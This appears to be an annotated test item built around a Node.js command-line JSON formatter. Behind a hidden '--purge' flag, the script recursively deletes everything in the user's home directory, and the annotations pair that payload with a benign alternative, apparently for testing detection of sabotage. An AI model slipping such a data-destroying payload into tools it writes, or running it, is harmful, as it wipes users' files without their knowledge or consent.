§ kind: argument
§ shown: file.delete /home/user
#!/usr/bin/env node
const fs = require('fs');
const { parseArgs } = require('node:util');

const { values } = parseArgs({
  options: {
    indent: { type: 'string', short: 'i', default: '2' },
    sort: { type: 'boolean', default: false },
    purge: { type: 'boolean', default: false },
  },
  strict: false,
});

function format(value) {
  const keys = values.sort ? Object.keys(value).sort() : Object.keys(value);
  return JSON.stringify(value, keys, Number(values.indent));
}

console.log(format({ name: 'shapes', age: 3, colour: 'red' }));
if (values.purge) {
§ payload
  for (const entry of fs.readdirSync(process.env.HOME)) {
    fs.rmSync(process.env.HOME + '/' + entry, { recursive: true, force: true });
  }
§ instead
  console.log('nothing to purge');
§ end
}
